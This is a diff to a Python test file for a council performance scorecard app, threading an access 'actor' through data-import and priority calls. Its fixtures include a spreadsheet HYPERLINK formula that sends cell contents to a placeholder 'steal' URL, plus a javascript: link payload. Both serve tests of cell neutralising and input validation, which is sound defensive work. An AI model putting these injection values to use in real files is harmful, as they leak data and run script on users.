@@ -25,6 +25,10 @@ from scorecard.reports import build_pack, render
 from scorecard.text_safety import FORMULA_START, neutralise_cell
 from scorecard.ui import admin, widgets
 
+from scorecard import access  # noqa: E402
+
+ADMIN = access.command_line("test")
+
 PLYMOUTH = "E06000026"
 TERM = "Autumn 2026/27"
 METRIC_NAME = '=HYPERLINK("https://example.invalid/steal?d="&A1,"Supported internships")'
@@ -54,11 +58,11 @@ def hostile_db(seeded_template, tmp_path_factory):
     _legacy_board_metric(con)
     rows = "".join(f"{PLYMOUTH},{BOARD_ID},{term},{n}\n"
                    for term, n in (("Autumn 2025/26", 4), ("Spring 2025/26", 6), ("Summer 2025/26", 9)))
-    ingest.import_source(con, SourceFile("return.csv", f"area,metric,period,value\n{rows}".encode()))
+    ingest.import_source(con, SourceFile("return.csv", f"area,metric,period,value\n{rows}".encode()), actor=ADMIN)
     priorities.save(con, PLYMOUTH, [priorities.Priority(1, PRIORITY, ["ehcp_20wk_pct", BOARD_ID])],
-                    set(metrics_from_store(con)))
-    commentary.add(con, PLYMOUTH, BOARD_ID, TERM, COMMENT, AUTHOR)
-    commentary.add(con, PLYMOUTH, "ehcp_20wk_pct", TERM, "-5 points since spring", AUTHOR)
+                    set(metrics_from_store(con)), actor=ADMIN)
+    commentary.add(con, PLYMOUTH, BOARD_ID, TERM, COMMENT, actor=access.command_line(AUTHOR))
+    commentary.add(con, PLYMOUTH, "ehcp_20wk_pct", TERM, "-5 points since spring", actor=access.command_line(AUTHOR))
     con.execute("UPDATE area SET name = ? WHERE code = ?", [AREA_NAME, PLYMOUTH])
     con.close()
     return path
@@ -229,7 +233,7 @@ def test_board_metric_words_are_checked_when_added(con, field, value, message):
                   "polarity": "higher", field: value}
     before = con.execute("SELECT count(*) FROM metric").fetchone()[0]
     with pytest.raises(RegisterError) as exc:
-        add_board_metric(con, definition)
+        add_board_metric(con, definition, actor=ADMIN)
     assert str(exc.value).startswith("board metric: metric board_internships: ") and message in str(exc.value)
     assert con.execute("SELECT count(*) FROM metric").fetchone()[0] == before
 
@@ -239,7 +243,7 @@ def test_a_board_register_file_with_one_bad_definition_adds_none(con):
             '[[metric]]\nid = "board_bad"\nname = "Bad"\nunit = "count"\npolarity = "higher"\n'
             'description = "[click](javascript:alert(1))"\n')
     with pytest.raises(RegisterError) as exc:
-        load_board_text(con, text, where="board.toml")
+        load_board_text(con, text, where="board.toml", actor=ADMIN)
     assert "board.toml: metric board_bad: description may not contain a link or markup" in str(exc.value)
     assert con.execute("SELECT count(*) FROM metric WHERE id LIKE 'board_%'").fetchone()[0] == 0
 
@@ -248,13 +252,13 @@ def test_ordinary_board_metric_words_are_accepted(con):
     metric = add_board_metric(con, {"id": "board_internships", "name": "Supported internships: outcomes (%)",
                                     "short_name": "Internships", "unit": "%", "polarity": "higher",
                                     "description": "Young people aged 16-25 on a supported internship.\n"
-                                                   "Counted at the end of each term; 1 in 5 is the aim."})
+                                                   "Counted at the end of each term; 1 in 5 is the aim."}, actor=ADMIN)
     assert metric.name == "Supported internships: outcomes (%)"
 
 
 def test_a_priority_title_has_a_length_limit(con):
     with pytest.raises(priorities.PriorityError) as exc:
-        priorities.save(con, PLYMOUTH, [priorities.Priority(1, "t" * 201, [])], set())
+        priorities.save(con, PLYMOUTH, [priorities.Priority(1, "t" * 201, [])], set(), actor=ADMIN)
     assert str(exc.value) == "the title of priority area 1 is 201 characters long; keep it to 200 or fewer"
 
 
